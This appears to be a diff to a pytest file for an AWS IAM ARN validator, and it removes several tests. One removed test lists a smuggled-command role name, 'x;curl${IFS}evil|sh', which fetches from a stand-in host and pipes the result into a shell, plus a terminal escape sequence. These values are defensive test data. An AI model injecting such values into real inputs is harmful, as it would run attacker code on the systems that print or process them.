@@ -26,12 +26,6 @@ def refused(arn: str, kind: str) -> bool:
     return False
 
 
-@pytest.mark.parametrize("name", ["x;curl${IFS}evil|sh", "a\x1b[2J", "/" + "p" * 511 + "/a"])
-def test_role_names_that_iam_does_not_have(name: str) -> None:
-    """The attack: an ARN whose role's name runs a command, or drives a terminal, wherever it is printed."""
-    assert refused(f"arn:aws:iam::{ACCOUNT}:role/{name}", "role")
-
-
 @pytest.mark.parametrize("aws_account", ["\u0661" * 12, "\uff11" * 12, f"{ACCOUNT[:-1]}\u0663", f"{ACCOUNT}\n"])
 def test_aws_accounts_in_other_digits(aws_account: str) -> None:
     r"""The attack: digits of other scripts, which `\d` takes for digits, and a line break after the last one."""
@@ -91,20 +85,6 @@ def test_a_path_that_is_taken_makes_an_arn_that_is_read(path: str) -> None:
             continue
         assert not refused(f"arn:aws:iam::{ACCOUNT}:{kind}{path}my-name", kind)
         assert set(path) <= set(f"{ALLOWED}/")
-
-
-@pytest.mark.parametrize(
-    ("arn", "kind"),
-    [
-        ("arn:aws:iam::aws:policy/aws-service-role/AmazonEKSServiceRolePolicy", "policy"),
-        ("arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admin_0", "role"),
-        (f"arn:aws:iam::111122223333:role/{'p' * 510}/{'x' * 64}", "role"),
-        (f"arn:aws:iam::111122223333:policy/{'x' * 128}", "policy"),
-        ("arn:aws:iam::111122223333:role/a//b", "role"),
-    ],
-)
-def test_arns_of_aws_itself_and_at_the_edges(arn: str, kind: str) -> None:
-    assert not refused(arn, kind)
 
 
 @pytest.mark.parametrize("rule", [each for each in vars(names).values() if isinstance(each, NameRule)])
